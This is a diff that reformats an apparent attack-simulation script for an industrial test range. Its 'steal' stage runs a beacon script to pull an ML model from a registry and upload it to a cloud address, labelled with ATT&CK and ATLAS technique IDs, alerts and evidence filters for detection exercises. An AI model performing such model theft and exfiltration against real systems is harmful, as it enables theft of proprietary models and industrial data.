@@ -8,7 +8,12 @@ import days
 from layout import ADDRESS
 
 SPEED, STANDING, GZIP = days.SPEED, days.STANDING, True
-OPENED = (*days.OPENED, ("enterprise", "edge", "any"), ("edge", "cell", "any"), ("enterprise", "internet", "any"))
+OPENED = (
+    *days.OPENED,
+    ("enterprise", "edge", "any"),
+    ("edge", "cell", "any"),
+    ("enterprise", "internet", "any"),
+)
 DRIFT = "model_swap"
 
 
@@ -52,8 +57,12 @@ def steal(stage):
     with stage.step("the model goes to the office and from there to the internet", actors=("office",),
                     targets=("registry", "cloud"), techniques=("T0882", "AML.T0035", "AML.T0025"),
                     alerts=("boundary.conduit", "boundary.it_ot"), evidence="http.request && ip.src == {office}"):  # fmt: skip
-        stage.done(stage.python("office", "attack_beacon.py", ADDRESS["registry"], 8080, 1, f"/models/pump-wear/{name}"))
-        stage.done(stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0", seed=2)))
+        stage.done(
+            stage.python("office", "attack_beacon.py", ADDRESS["registry"], 8080, 1, f"/models/pump-wear/{name}")
+        )
+        stage.done(
+            stage.python("office", "attack_beacon.py", ADDRESS["cloud"], 80, 1, "/upload", stage.model("1.5.0", seed=2))
+        )
 
 
 def swap(stage):
